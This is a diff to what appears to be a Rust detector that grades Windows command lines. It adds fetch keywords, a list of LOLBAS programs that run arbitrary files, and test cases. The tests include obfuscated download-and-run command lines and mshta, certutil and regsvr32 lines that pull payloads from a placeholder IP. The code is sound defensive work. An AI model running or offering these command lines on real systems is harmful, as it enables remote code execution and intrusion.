@@ -18,7 +18,11 @@ const MOST_PATHS: usize = 32;
 const SHORTEST_ENCODED: usize = 16;
 
 /// Words that fetch code from elsewhere, without blanks.
-const FETCHES: [&str; 11] = [
+const FETCHES: [&str; 15] = [
+    "iwrhttp",
+    "irmhttp",
+    "wgethttp",
+    "curlhttp",
     "downloadstring",
     "downloadfile",
     "downloaddata",
@@ -33,8 +37,16 @@ const FETCHES: [&str; 11] = [
 ];
 
 /// Those of them that administrators' scripts use as well: to report that they ran, to fetch data.
-const ORDINARY: [&str; 4] =
-    ["invoke-webrequest", "invoke-restmethod", "start-bitstransfer", "bitsadmin/transfer"];
+const ORDINARY: [&str; 8] = [
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "iwrhttp",
+    "irmhttp",
+    "wgethttp",
+    "curlhttp",
+    "start-bitstransfer",
+    "bitsadmin/transfer",
+];
 
 /// Words that run text as code, without blanks.
 const RUNS_TEXT: [&str; 5] =
@@ -103,7 +115,7 @@ pub(crate) fn judge(line: &str) -> Option<(Grade, String)> {
 
 /// The most doubtful of the files that a command line names.
 fn worst_file(lower: &str) -> Option<(Grade, String)> {
-    let graded = files(lower).into_iter().filter_map(|file| {
+    let graded = files(lower).into_iter().chain(given(lower)).filter_map(|file| {
         let at = place(&file);
         let grade = match at {
             Place::Reserved => Grade::Certain,
@@ -147,6 +159,38 @@ fn files(lower: &str) -> Vec<String> {
         }
     }
     found
+}
+
+/// Programs that run the file they are given, whatever it is called
+/// (<https://lolbas-project.github.io>).
+const RUN_ANY_FILE: [&str; 10] = [
+    "wscript",
+    "cscript",
+    "mshta",
+    "msbuild",
+    "installutil",
+    "regasm",
+    "regsvcs",
+    "regsvr32",
+    "rundll32",
+    "cmstp",
+];
+
+/// The first file that such a program is given; `None` if there is none with a full path.
+fn given(lower: &str) -> Option<String> {
+    let ends = RUN_ANY_FILE.iter().filter_map(|name| Some(lower.find(name)? + name.len()));
+    let rest = lower.get(ends.min()?..)?;
+    let drive = rest.find(":\\")?.checked_sub(1)?;
+    let quote = drive.checked_sub(1).and_then(|at| rest.get(at..drive));
+    let path = rest.get(drive..)?;
+    let is_end = |letter: char| match quote {
+        Some("\"") => letter == '"',
+        Some("'") => letter == '\'',
+        _ => letter.is_whitespace() || matches!(letter, ',' | '"'),
+    };
+    let path = plain(&path[..path.find(is_end).unwrap_or(path.len())]);
+    // A folder (of a log, of a job) is nothing to run.
+    path.rsplit('\\').next()?.contains('.').then_some(path)
 }
 
 /// Where the first name with this extension ends.
@@ -207,6 +251,8 @@ mod tests {
             "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe\"",
             "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\rotate-logs.ps1",
             "powershell.exe -EncodedCommand short",
+            "cscript.exe //B C:\\Scripts\\report.vbs /out:C:\\Windows\\Temp\\report.txt",
+            "MSBuild.exe C:\\Build\\site.proj /flp:logfile=C:\\Temp\\build.log",
             "D:\\Exchange\\Bin\\MSExchangeHMHost.exe",
             "C:\\Windows\\system32\\cmd.exe /c del C:\\Windows\\Temp\\*.log",
             "%windir%\\system32\\rundll32.exe advapi32.dll,ProcessIdleTasks",
@@ -229,6 +275,8 @@ mod tests {
             ),
             ("powershell -c \"Invoke-WebRequest https://status.example/ran\"".into(), Grade::Look),
             ("mshta.exe http://192.0.2.1/a.hta".into(), Grade::Likely),
+            ("cmd /c p^o^wershell -c ie^x (iwr http://192.0.2.1/a)".into(), Grade::Likely),
+            ("powershell -c iwr http://status.example/ran".into(), Grade::Look),
             ("certutil -urlcache -f http://192.0.2.1/a a.exe".into(), Grade::Likely),
             ("regsvr32 /s /n /u /i:http://192.0.2.1/a scrobj.dll".into(), Grade::Likely),
         ] {
@@ -250,6 +298,9 @@ mod tests {
             ("wscript.exe //B C:\\Temp\\run.vbs", Grade::Likely),
             ("%TEMP%\\a.exe", Grade::Likely),
             ("C:\\inetpub\\wwwroot\\aspnet_client\\a.exe", Grade::Likely),
+            ("wscript.exe //E:vbscript C:\\ProgramData\\u.txt", Grade::Likely),
+            ("MSBuild.exe \"C:\\Users\\Public\\a b.xml\" /nologo", Grade::Likely),
+            ("C:\\PROGRA~3\\a.exe", Grade::Likely),
             ("C:\\ProgramData\\COM1\\a.exe", Grade::Certain),
             ("C:\\ProgramData\\VSPerfMon\\w.exe", Grade::Certain),
             ("C:\\Users\\Public\\opera\\Opera_browser.exe", Grade::Certain),
